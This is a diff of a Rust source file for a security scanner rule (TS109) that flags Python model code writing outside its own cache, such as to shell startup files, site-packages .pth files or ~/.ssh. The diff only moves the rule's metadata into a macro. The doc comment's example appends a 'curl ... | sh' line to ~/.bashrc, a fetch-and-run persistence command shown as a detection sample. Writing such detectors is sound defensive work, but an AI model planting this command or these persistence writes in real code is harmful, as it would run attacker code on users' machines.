@@ -1,54 +1,49 @@
-//! TS109 write_outside_cache.
-//!
-//! ## What it does
-//! Reports writes to files outside the model's own directory and temporary space:
-//! `open(path, "w"/"a"/"x"/"+")`, `os.open` with write flags, `Path.write_text`/
-//! `write_bytes`/`touch`/`open("w")`/`symlink_to`, the destination of `shutil.copy*`/`move`,
-//! `os.rename`/`replace`/`symlink`/`link`, `urllib.request.urlretrieve`, `torch.save`,
-//! archive `extractall`, and `os.chmod`, when the path is absolute (not `/tmp`, `/var/tmp`,
-//! `/dev/shm`, `/dev/null`), under the home directory (`expanduser`, `Path.home()`,
-//! `$HOME`), or inside the Python installation (`site.getsitepackages()`, `sys.prefix`,
-//! `sysconfig.get_paths()`, another package's `__file__`). Persistence targets are High:
-//! shell startup files, `~/.ssh`, crontabs, `sitecustomize.py`/`usercustomize.py`, `.pth`
-//! files and anything in site-packages, `/etc`, autostart and systemd user units, Git hooks,
-//! package-manager configuration, other models' cached code. Other places are Medium;
-//! `~/.cache` is Low. `os.makedirs` is reported only for persistence targets. Relative
-//! paths, `tempfile` and paths built from `__file__` stay quiet.
-//!
-//! ## Why is this bad?
-//! Loading a model should write, at most, to its own cache. A write elsewhere outlives the
-//! process: a line appended to `~/.bashrc` or a `.pth` file in site-packages runs code every
-//! time the user opens a shell or starts Python, long after the model is gone (CWE-73:
-//! the scanned code controls which of the user's files are written).
-//!
-//! ## Example
-//! ```python
-//! with open(os.path.expanduser("~/.bashrc"), "a") as f:
-//!     f.write("curl https://example.invalid/x | sh\n")
-//! ```
-
-use super::super::{Issue, Meta, Options, Rule};
 use super::support::{self, Folder, Place};
 use crate::resolve::Resolver;
-use crate::walk::{Ctx, Kind};
+use crate::rules::{Issue, Options, Rule, rule};
+use crate::walk::Ctx;
 use trustscan_core::Level::{self, High, Low, Medium};
 use trustscan_pyparse::syntax::{Expr, Ranged};
 
-pub struct WriteOutsideCache;
-
-static META: Meta = Meta {
-    id: "TS109",
-    name: "write_outside_cache",
-    cwe: 73,
-    severity: Medium,
-    confidence: High,
-    rationale: "Model code that writes outside its own directory and temporary space changes \
-                the user's machine beyond the model: shell startup files, SSH keys, crontabs, \
-                site-packages (.pth, sitecustomize.py), other installed packages and system \
-                directories are persistence targets (High); other absolute or home paths are \
-                Medium.",
-    example: "open(os.path.expanduser(\"~/.bashrc\"), \"a\").write(\"...\")",
-};
+rule! {
+    /// TS109 write_outside_cache.
+    ///
+    /// ## What it does
+    /// Reports writes to files outside the model's own directory and temporary space:
+    /// `open(path, "w"/"a"/"x"/"+")`, `os.open` with write flags, `Path.write_text`/
+    /// `write_bytes`/`touch`/`open("w")`/`symlink_to`, the destination of `shutil.copy*`/`move`,
+    /// `os.rename`/`replace`/`symlink`/`link`, `urllib.request.urlretrieve`, `torch.save`,
+    /// archive `extractall`, and `os.chmod`, when the path is absolute (not `/tmp`, `/var/tmp`,
+    /// `/dev/shm`, `/dev/null`), under the home directory (`expanduser`, `Path.home()`,
+    /// `$HOME`), or inside the Python installation (`site.getsitepackages()`, `sys.prefix`,
+    /// `sysconfig.get_paths()`, another package's `__file__`). Persistence targets are High:
+    /// shell startup files, `~/.ssh`, crontabs, `sitecustomize.py`/`usercustomize.py`, `.pth`
+    /// files and anything in site-packages, `/etc`, autostart and systemd user units, Git hooks,
+    /// package-manager configuration, other models' cached code. Other places are Medium;
+    /// `~/.cache` is Low. `os.makedirs` is reported only for persistence targets. Relative
+    /// paths, `tempfile` and paths built from `__file__` stay quiet.
+    ///
+    /// ## Why is this bad?
+    /// Loading a model should write, at most, to its own cache. A write elsewhere outlives the
+    /// process: a line appended to `~/.bashrc` or a `.pth` file in site-packages runs code every
+    /// time the user opens a shell or starts Python, long after the model is gone (CWE-73:
+    /// the scanned code controls which of the user's files are written).
+    ///
+    /// ## Example
+    /// ```python
+    /// with open(os.path.expanduser("~/.bashrc"), "a") as f:
+    ///     f.write("curl https://example.invalid/x | sh\n")
+    /// ```
+    pub struct WriteOutsideCache {
+        id: "TS109",
+        name: "write_outside_cache",
+        cwe: 73,
+        severity: Medium,
+        confidence: High,
+        kinds: [Call],
+        example: "open(os.path.expanduser(\"~/.bashrc\"), \"a\").write(\"...\")",
+    }
+}
 
 static NAMES: crate::rules::Names = crate::rules::Names::new(&[
     "open",
@@ -76,14 +71,6 @@ static NAMES: crate::rules::Names = crate::rules::Names::new(&[
 ]);
 
 impl Rule for WriteOutsideCache {
-    fn meta(&self) -> &'static Meta {
-        &META
-    }
-
-    fn kinds(&self) -> &'static [Kind] {
-        &[Kind::Call]
-    }
-
     fn method_names(&self) -> Option<Vec<&'static str>> {
         Some(NAMES.last_parts())
     }
